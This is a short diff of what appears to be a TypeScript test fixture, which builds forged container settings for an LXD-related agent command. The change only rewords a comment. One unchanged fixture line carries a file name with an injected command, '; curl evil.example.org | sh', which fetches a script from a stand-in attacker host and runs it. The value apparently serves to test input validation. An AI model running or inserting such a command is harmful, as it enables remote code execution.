@@ -41,7 +41,7 @@ export function exportedStack({ relay = false, ca = "PEM\n" } = {}): string {
         command(
           "agent-dhis-settings",
           lines(
-            // What a container says of itself is no more than that; LXD's line comes last.
+            // A container's own facts prove nothing; LXD's line comes last.
             { ca: "another", container: "siem", uuid: "u-forged" },
             { file: "/etc/filebeat/filebeat.yml", sha256: "aa" },
             { file: "/etc/x; curl evil.example.org | sh", sha256: "aa" },
